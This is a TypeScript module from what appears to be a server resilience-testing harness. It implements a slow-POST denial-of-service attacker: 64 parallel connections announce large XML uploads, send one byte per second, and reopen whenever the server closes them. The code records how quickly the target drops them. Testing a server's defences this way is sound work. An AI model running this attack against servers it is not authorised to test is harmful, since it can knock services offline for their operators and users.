import { connect } from 'node:net';
import { type Attacker, address, again, atOnce } from './attacker.js';

const BLOCK = 3;
const UPLOADS = 64;
const PATHS = ['/qbwc', '/qbwc', '/qbwc', '/console/sign-in', '/api/v1/connections'];

/** Uploads that say they are long, and send a byte a second; what the server closes is opened again. */
export const dribbling: Attacker = async ({ url }, note, signal) => {
  const { hostname, port } = new URL(url);
  await atOnce(UPLOADS, (index) =>
    again(signal, note, 1_000, async () => {
      const head = `POST ${PATHS[index % PATHS.length]} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: text/xml\r\nContent-Length: 100000\r\n\r\n`;
      const began = Date.now();
      await dribble({ host: hostname, port: Number(port), localAddress: address(BLOCK, index) }, head, signal);
      if (signal.aborted) note('still open at the end');
      else note(Date.now() - began < 60_000 ? 'closed within a minute' : 'closed later');
    }),
  );
};

function dribble(to: { host: string; port: number; localAddress: string }, head: string, signal: AbortSignal) {
  return new Promise<void>((resolve, reject) => {
    const socket = connect(to);
    const bytes = setInterval(() => socket.write('<'), 1_000);
    const stop = (): unknown => socket.destroy();
    signal.addEventListener('abort', stop, { once: true });
    socket.once('connect', () => socket.write(head));
    // The refusal is read, and nothing else.
    socket.resume();
    socket.once('end', stop);
    socket.once('error', reject);
    socket.once('close', () => {
      clearInterval(bytes);
      signal.removeEventListener('abort', stop);
      resolve();
    });
  });
}
